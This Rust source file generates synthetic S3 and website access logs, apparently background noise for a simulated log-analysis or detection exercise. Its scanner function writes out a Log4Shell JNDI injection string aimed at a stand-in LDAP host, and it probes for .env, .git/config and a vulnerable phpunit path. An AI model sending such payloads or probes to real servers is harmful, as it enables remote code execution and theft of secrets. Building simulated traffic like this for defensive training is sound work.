//! The rest of the world: crawlers, scanners, browsers, customers, the partner.

use super::Tell;
use crate::line::{Address, Channel, Line};
use crate::lines::{Caller, denied, missing};
use crate::rng::Rng;
use crate::world::{self, agent};

/// A polite crawler on the public bucket: a dead link every few minutes.
pub fn crawler(rng: &mut Rng, now: i64, tell: &mut Tell<'_>) {
    let key = format!("docs/old/page-{}.html", rng.below(100_000));
    tell(&Line {
        time: now,
        bucket: world::DOWNLOADS,
        address: Address::v4(198, 51, 100, 250),
        key: key.as_bytes(),
        status: 404,
        error: "NoSuchKey",
        bytes: 301,
        total: 12,
        agent: agent::CRAWLER,
        channel: Channel::Anonymous,
        ..Line::BLANK
    });
}

/// Somebody of the public.
fn somebody(rng: &mut Rng) -> Address {
    Address::v4(198, 18, rng.below(128) as u8, rng.below(250) as u8 + 1)
}

/// A page of the website, asked for by somebody.
fn page<'a>(address: Address, agent: &'a str, key: &'a str, bytes: u64) -> Line<'a> {
    Line {
        bucket: world::WEBSITE,
        address,
        operation: "WEBSITE.GET.OBJECT",
        key: key.as_bytes(),
        bytes,
        size: bytes,
        total: 21,
        turn: 19,
        agent,
        channel: Channel::Website,
        ..Line::BLANK
    }
}

/// A search engine reads the website, and asks for what most sites have.
pub fn search_engine(rng: &mut Rng, now: i64, tell: &mut Tell<'_>) {
    let address = Address::v4(198, 18, 200, 66);
    for (i, key) in (0..).zip([
        "robots.txt",
        "sitemap.xml",
        "ads.txt",
        ".well-known/security.txt",
    ]) {
        let line = missing(page(address, agent::CRAWLER, key, 0));
        tell(&Line {
            time: now + i * 2,
            ..line
        });
    }
    for i in 0..40 {
        let key = format!("blog/2026/post-{:08x}.html", rng.below(400));
        let line = page(address, agent::CRAWLER, &key, rng.size(12, 15));
        let gone = i % 10 == 9;
        tell(&Line {
            time: now + 10 + i * 11,
            ..if gone { missing(line) } else { line }
        });
    }
}

/// Is the website there?
pub fn health_check(rng: &mut Rng, now: i64, tell: &mut Tell<'_>) {
    for i in 0..3 {
        let address = Address::V4(world::AWS_HERE + 70 + rng.below(16));
        let line = page(address, agent::HEALTH, "health.html", 12);
        tell(&Line {
            time: now + i * 10,
            ..line
        });
    }
}

/// Whoever scans the whole internet also finds this website, asks for what is
/// not there, and sends strings that a static page cannot care about.
pub fn website_scanner(rng: &mut Rng, now: i64, tell: &mut Tell<'_>) {
    let address = somebody(rng);
    let agent = rng.pick(&[
        agent::ZGRAB,
        agent::BROWSERS[0],
        agent::NUCLEI,
        agent::CENSYS,
    ]);
    let keys = [
        ".env",
        "wp-login.php",
        ".git/config",
        "actuator/health",
        "vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "boaform/admin/formLogin",
    ];
    for (i, key) in (0..).zip(keys) {
        let line = missing(page(address, agent, key, 0));
        tell(&Line {
            time: now + i * 15,
            ..line
        });
    }
    let front = Line {
        path: b"/",
        ..page(address, agent, "index.html", 18_231)
    };
    tell(&Line {
        time: now + 100,
        ..front
    });
    tell(&Line {
        time: now + 110,
        query: b"?x=${jndi:ldap://198.18.3.3/a}",
        ..front
    });
}

/// And the names of buckets, which are refused.
pub fn bucket_scanner(rng: &mut Rng, now: i64, tell: &mut Tell<'_>) {
    let address = somebody(rng);
    for (i, bucket) in (0..).zip([world::BACKUPS, world::UPLOADS]) {
        let caller = Caller {
            bucket,
            address,
            requester: "",
        };
        tell(&Line {
            time: now + i * 40,
            ..denied(caller.list())
        });
    }
}

/// A telephone looks for an icon under every name that it knows.
pub fn icons(rng: &mut Rng, now: i64, tell: &mut Tell<'_>) {
    let address = somebody(rng);
    let keys = [
        "apple-touch-icon-120x120-precomposed.png",
        "apple-touch-icon-120x120.png",
        "apple-touch-icon-precomposed.png",
        "apple-touch-icon.png",
        "favicon.ico",
        "robots.txt",
        "manifest.json",
        "browserconfig.xml",
        ".well-known/apple-app-site-association",
    ];
    for (i, key) in (0..).zip(keys) {
        let line = missing(page(address, agent::BROWSERS[3], key, 0));
        tell(&Line {
            time: now + i,
            ..line
        });
    }
}

/// The query of a link that is good for so many seconds from a time on.
fn link(credential: &str, seconds: u32) -> String {
    format!(
        "?X-Amz-Algorithm=AWS4-HMAC-SHA256\
         &X-Amz-Credential={credential}%2F20260203%2Feu-west-1%2Fs3%2Faws4_request\
         &X-Amz-Date=20260203T000000Z&X-Amz-Expires={seconds}\
         &X-Amz-SignedHeaders=host&X-Amz-Signature=XXXXXXXX"
    )
}

/// Browsers ask whether they may upload, then do so by a presigned link.
pub fn uploads(rng: &mut Rng, now: i64, tell: &mut Tell<'_>) {
    let query = link("ASIAEXAMPLEUPLOADS01", 900);
    let requester = world::role("app-api", "upload-links");
    for i in 0..12 {
        let address = somebody(rng);
        let key = format!(
            "customers/{}/inbox/{:012x}.pdf",
            rng.below(90_000),
            rng.next()
        );
        let nobody = Caller {
            bucket: world::UPLOADS,
            address,
            requester: "",
        };
        let signer = Caller {
            requester: &requester,
            ..nobody
        };
        let agent = rng.pick(&agent::BROWSERS);
        tell(&Line {
            time: now + i * 40,
            operation: "REST.OPTIONS.PREFLIGHT",
            method: "OPTIONS",
            query: query.as_bytes(),
            agent,
            ..nobody.get(&key, 0)
        });
        tell(&Line {
            time: now + i * 40 + 1,
            query: query.as_bytes(),
            channel: Channel::Query,
            agent,
            ..signer.put(&key, rng.size(14, 22))
        });
    }
}

/// A newsletter: each customer has a link of their own, good for a week. Some
/// are opened twice: by what checks the mail, and by the customer.
pub fn newsletter(rng: &mut Rng, now: i64, tell: &mut Tell<'_>) {
    let query = link("AKIAEXAMPLENEWSLETT1", 604_800);
    let requester = world::user("newsletter-links");
    for i in 0..150 {
        let key = format!("newsletter/2026-02/customer-{i:05}.pdf");
        for time in [0, 90] {
            let caller = Caller {
                bucket: world::EXPORTS,
                address: somebody(rng),
                requester: &requester,
            };
            tell(&Line {
                time: now + i * 12 + time,
                query: query.as_bytes(),
                channel: Channel::Query,
                agent: rng.pick(&agent::BROWSERS),
                ..caller.get(&key, 481_204)
            });
        }
    }
}

/// The partner fetches the day's reports from its own network, all of them.
pub fn partner(rng: &mut Rng, now: i64, tell: &mut Tell<'_>) {
    let requester = format!(
        "arn:aws:sts::{}:assumed-role/shared-analytics/nightly",
        world::PARTNER
    );
    let caller = Caller {
        bucket: world::REPORTS,
        address: Address::v4(198, 18, 210, 50),
        requester: &requester,
    };
    tell(&Line {
        time: now,
        agent: agent::BOTO3,
        ..caller.list()
    });
    for i in 0..560 {
        let key = format!("exports/partner/{}/part-{i:04}.csv.gz", now / 86_400);
        tell(&Line {
            time: now + 2 + i,
            agent: agent::BOTO3,
            ..caller.get(&key, rng.size(15, 20))
        });
    }
}

/// Customers behind one address of a telephone company: each has links of their own.
pub fn carrier(rng: &mut Rng, now: i64, tell: &mut Tell<'_>) {
    let query = link("ASIAEXAMPLECARRIER01", 900);
    let requester = world::role("app-api", "download-links");
    for i in 0..40 {
        let address = Address::v4(198, 18, 211, 7);
        let agent = rng.pick(&agent::BROWSERS);
        if i % 4 == 3 {
            let line = page(address, agent, "index.html", 18_231);
            tell(&Line {
                time: now + i * 6,
                path: b"/",
                ..line
            });
            continue;
        }
        let caller = Caller {
            bucket: world::REPORTS,
            address,
            requester: &requester,
        };
        let key = format!("exports/{:016x}/report-2026.csv", rng.next());
        tell(&Line {
            time: now + i * 6,
            query: query.as_bytes(),
            channel: Channel::Query,
            agent,
            ..caller.get(&key, rng.size(14, 20))
        });
    }
}
